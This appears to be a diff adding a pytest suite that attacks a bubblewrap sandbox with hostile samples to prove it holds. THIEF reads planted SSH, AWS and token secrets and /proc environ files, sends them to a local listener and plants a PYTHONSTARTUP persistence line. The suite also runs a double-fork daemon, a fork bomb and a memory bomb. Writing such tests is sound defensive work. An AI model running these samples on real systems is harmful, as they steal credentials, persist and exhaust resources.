@@ -1,0 +1,324 @@
+"""The box, attacked the way a hostile candidate would, with the real bubblewrap.
+
+Each test plants something of "yours" (secrets in a HOME, credential variables, a workflow's
+GITHUB_ENV file, a project, a listener on 127.0.0.1) and runs hostile code in a boxed step
+through ``runner.run``, then checks that nothing planted was read, written or reached.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from pytest_spike._core import runner, sandbox
+from pytest_spike.model import SpikeError
+
+BOXED = sandbox.status(sandbox.Policy()).boxed
+needs_box = pytest.mark.skipif(not BOXED, reason=f"no box here: {sandbox.status(sandbox.Policy()).reason}")
+
+#: Credential variables a CI job or a laptop may hold; none may reach candidate code.
+SECRET_ENV = {
+    "GITHUB_TOKEN": "s3cr3t-gh",
+    "DATABASE_URL": "postgres://app:s3cr3t-db@db.invalid/app",
+    "CI_JOB_JWT": "s3cr3t-jwt",
+    "NPM_CONFIG__AUTH": "s3cr3t-npm",
+    "DOCKER_AUTH_CONFIG": '{"auths": "s3cr3t-docker"}',
+    "KUBECONFIG": "/s3cr3t/kube",
+    "VAULT_ADDR": "https://s3cr3t-vault.invalid",
+    "PIP_INDEX_URL": "https://user:s3cr3t-pip@index.invalid/simple",
+    "MYSQL_PWD": "s3cr3t-mysql",
+    "SENTRY_DSN": "https://s3cr3t-sentry@sentry.invalid/1",
+    "SLACK_WEBHOOK_URL": "https://hooks.invalid/s3cr3t-slack",
+    "REDIS_URL": "redis://:s3cr3t-redis@redis.invalid",
+}
+#: Files a real HOME holds; planted with fake secrets.
+SECRET_FILES = {
+    ".ssh/id_rsa": "s3cr3t-ssh-key",
+    ".aws/credentials": "[default]\naws_secret_access_key = s3cr3t-aws",
+    ".netrc": "machine index.invalid login me password s3cr3t-netrc",
+    ".pypirc": "[pypi]\npassword = s3cr3t-pypirc",
+    ".config/gh/hosts.yml": "github.com:\n  oauth_token: s3cr3t-gh-hosts",
+    ".bashrc": "# untouched\n",
+}
+
+
+@pytest.fixture
+def yours(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
+    """A HOME with secrets, a project with an extraheader token, a GITHUB_ENV file, secrets set."""
+    home = tmp_path / "home"
+    for relative, text in SECRET_FILES.items():
+        path = home / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    project = tmp_path / "project"
+    (project / ".git").mkdir(parents=True)
+    (project / ".git" / "config").write_text(
+        '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic s3cr3t-checkout\n'
+    )
+    (project / ".env").write_text("API_KEY=s3cr3t-dotenv\n")
+    (project / "conftest.py").write_text("# the team's conftest\n")
+    github_env = tmp_path / "github_env"
+    github_env.write_text("")
+    monkeypatch.setenv("HOME", str(home))
+    monkeypatch.setenv("GITHUB_ENV", str(github_env))
+    monkeypatch.setenv("GITHUB_PATH", str(github_env))
+    for name, value in SECRET_ENV.items():
+        monkeypatch.setenv(name, value)
+    out = tmp_path / "out"
+    out.mkdir()
+    return {"home": home, "project": project, "github_env": github_env, "out": out}
+
+
+def snapshot(*roots: Path) -> dict[str, bytes]:
+    return {str(p): p.read_bytes() for root in roots for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+class Listener:
+    """A TCP listener on 127.0.0.1 that counts connections (bounded: closes with the test)."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(16)
+        self.sock.settimeout(0.2)
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            self.connections += 1
+            conn.close()
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(timeout=2)
+        self.sock.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    found = Listener()
+    yield found
+    found.close()
+
+
+THIEF = r"""
+import glob, json, os, socket, sys
+targets = json.loads(sys.argv[1])
+seen = {"env": dict(os.environ), "files": {}, "proc": {}, "connect": None, "wrote": []}
+for path in targets["read"] + [os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.netrc")]:
+    try:
+        with open(path) as handle:
+            seen["files"][path] = handle.read()
+    except OSError as exc:
+        seen["files"][path] = "refused: %s" % type(exc).__name__
+for path in glob.glob("/proc/[0-9]*/environ"):
+    try:
+        with open(path, "rb") as handle:
+            seen["proc"][path] = handle.read().decode("utf-8", "replace")
+    except OSError:
+        pass
+try:
+    sock = socket.create_connection(("127.0.0.1", targets["port"]), timeout=2)
+    sock.sendall(json.dumps(seen["files"]).encode())
+    seen["connect"] = "connected"
+except OSError as exc:
+    seen["connect"] = "refused: %s" % exc
+for path in targets["write"]:
+    try:
+        with open(path, "a") as handle:
+            handle.write("PYTHONSTARTUP=/tmp/evil.py\n")
+        seen["wrote"].append(path)
+    except OSError:
+        pass
+print(json.dumps(seen))
+"""
+
+
+def steal(yours: dict[str, Path], listener: Listener, box: sandbox.Box) -> tuple[dict, runner.RunResult]:
+    home, project = yours["home"], yours["project"]
+    targets = {
+        "read": [str(home / r) for r in SECRET_FILES] + [str(project / ".git/config"), str(project / ".env")],
+        "write": [str(home / ".bashrc"), str(project / "conftest.py"), str(yours["github_env"])],
+        "port": listener.port,
+    }
+    done = runner.run(
+        [sys.executable, "-c", THIEF, json.dumps(targets)], timeout=60, cwd=yours["out"], box=box
+    )
+    assert done.ok, done.stderr
+    return json.loads(done.stdout.strip().splitlines()[-1]), done
+
+
+@needs_box
+@pytest.mark.parametrize(
+    "box",
+    [
+        sandbox.Box("import"),
+        sandbox.Box("install", network=True),
+        pytest.param(sandbox.Box("tests", project="PROJECT"), id="tests-with-project-in-view"),
+    ],
+    ids=lambda b: b.stage if isinstance(b, sandbox.Box) else None,
+)
+def test_a_boxed_step_reads_writes_and_sends_nothing_of_yours(
+    yours: dict[str, Path], listener: Listener, box: sandbox.Box
+) -> None:
+    if box.project == "PROJECT":
+        box = sandbox.Box("tests", project=str(yours["project"]))
+    before = snapshot(yours["home"], yours["project"], yours["github_env"].parent / "github_env")
+    seen, done = steal(yours, listener, box)
+
+    assert done.sandbox == "boxed"
+    text = json.dumps(seen)
+    assert "s3cr3t" not in text, [k for k, v in seen["files"].items() if "s3cr3t" in v]
+    assert not any(name in seen["env"] for name in SECRET_ENV)
+    assert not any(name.startswith(("GITHUB_", "CI_")) for name in seen["env"])
+    assert seen["env"]["HOME"] == sandbox.BOX_HOME
+    # The box's HOME holds decoys only.
+    assert "spike-decoy" in seen["files"][sandbox.BOX_HOME + "/.ssh/id_rsa"]
+    # Writes land nowhere of yours: HOME and the project are read-only or absent, and a
+    # path under /tmp is the box's own private /tmp (the snapshot below is the proof).
+    assert str(yours["home"] / ".bashrc") not in seen["wrote"]
+    assert str(yours["project"] / "conftest.py") not in seen["wrote"]
+    assert snapshot(yours["home"], yours["project"], yours["github_env"].parent / "github_env") == before
+    if box.network:  # the installer's step reaches the index (and so this listener)...
+        assert seen["connect"] == "connected"
+    else:  # ...a probe's step reaches nothing
+        assert seen["connect"].startswith("refused")
+        assert listener.connections == 0
+    if box.project:
+        assert seen["files"][str(yours["project"] / ".git/config")].startswith("refused")
+        assert seen["files"][str(yours["project"] / ".env")] in ("", "refused: PermissionError")  # masked
+
+
+DAEMON = r"""
+import os, sys, time
+marker = sys.argv[1]
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        time.sleep(1.5)
+        with open(marker, "w") as handle:
+            handle.write("outlived")
+        os._exit(0)
+    os._exit(0)
+print("parent done")
+"""
+
+
+@needs_box
+def test_a_setsid_double_fork_dies_with_its_step(tmp_path: Path) -> None:
+    marker = tmp_path / "daemon-was-here"
+    done = runner.run(
+        [sys.executable, "-c", DAEMON, str(marker)],
+        timeout=30,
+        cwd=tmp_path,
+        box=sandbox.Box("import", write=(str(tmp_path),)),
+    )
+    assert done.ok and "parent done" in done.stdout
+    time.sleep(3)
+    assert not marker.exists(), "a daemon outlived its step"
+
+
+FORK_BOMB = r"""
+import os, time
+made = 0
+for _ in range(400):
+    try:
+        pid = os.fork()
+    except OSError:
+        break
+    if pid == 0:
+        time.sleep(20)
+        os._exit(0)
+    made += 1
+print("forked", made)
+"""
+
+
+@needs_box
+def test_a_fork_bomb_hits_the_process_limit() -> None:
+    policy = sandbox.Policy(limits=sandbox.Limits(processes=64))
+    with sandbox.use(policy):
+        done = runner.run([sys.executable, "-c", FORK_BOMB], timeout=60, box=sandbox.Box("readme"))
+    made = int(done.stdout.split()[-1])
+    assert made < 64, done.stdout
+    if os.getuid() == 0:  # as root, only a cgroup can count the processes (and it did)
+        assert "processes" in done.limits_hit
+
+
+MEMORY_BOMB = r"""
+chunks = []
+try:
+    for _ in range(64):
+        chunks.append(bytearray(32 * 1024 * 1024))
+    print("allocated", len(chunks) * 32, "MB")
+except MemoryError:
+    print("refused after", len(chunks) * 32, "MB")
+"""
+
+
+@needs_box
+def test_a_memory_bomb_hits_the_memory_limit_and_is_measured() -> None:
+    policy = sandbox.Policy(limits=sandbox.Limits(memory_mb=512))
+    with sandbox.use(policy):
+        done = runner.run([sys.executable, "-c", MEMORY_BOMB], timeout=60, box=sandbox.Box("readme"))
+    assert "allocated 2048 MB" not in done.stdout
+    assert done.peak_memory_mb is not None and done.peak_memory_mb > 100
+
+
+@needs_box
+def test_a_file_larger_than_the_limit_is_not_written(tmp_path: Path) -> None:
+    code = "open('big', 'wb').write(b'x' * 8 * 1024 * 1024)"
+    with sandbox.use(sandbox.Policy(limits=sandbox.Limits(file_mb=1))):
+        done = runner.run(
+            [sys.executable, "-c", code],
+            timeout=30,
+            cwd=tmp_path,
+            box=sandbox.Box("x", write=(str(tmp_path),)),
+        )
+    assert not done.ok
+    assert (tmp_path / "big").stat().st_size <= 1024 * 1024
+
+
+def test_without_bubblewrap_auto_says_so_and_require_refuses(tmp_path: Path) -> None:
+    missing = str(tmp_path / "no-bwrap")
+    auto = sandbox.Policy(mode="auto", bwrap=missing)
+    assert not sandbox.status(auto).boxed
+    with sandbox.use(auto):
+        done = runner.run([sys.executable, "-c", "print('ran')"], timeout=30, box=sandbox.Box("import"))
+    assert done.ok and done.sandbox == "unboxed"
+    assert "not sandboxed" in sandbox.status(auto).describe()
+    with sandbox.use(sandbox.Policy(mode="require", bwrap=missing)):
+        with pytest.raises(SpikeError, match="--spike-sandbox require: .*bubblewrap"):
+            runner.run([sys.executable, "-c", "print('ran')"], timeout=30, box=sandbox.Box("import"))
+    off = sandbox.Policy(mode="off")
+    assert sandbox.status(off).describe().startswith("not sandboxed: --spike-sandbox off")
+
+
+def test_the_environment_is_an_allow_list() -> None:
+    env = {
+        **SECRET_ENV,
+        "PATH": "/usr/bin",
+        "LANG": "C.UTF-8",
+        "LC_ALL": "C",
+        "GITHUB_ENV": "/x",
+        "HOME": "/root",
+    }
+    kept = sandbox.box_env(env, {"PYTEST_ADDOPTS": ""}, sandbox.BOX_HOME)
+    assert set(kept) == {"PATH", "LANG", "LC_ALL", "PYTEST_ADDOPTS", "HOME", "TMPDIR", "USER", "LOGNAME"}
+    assert kept["HOME"] == sandbox.BOX_HOME
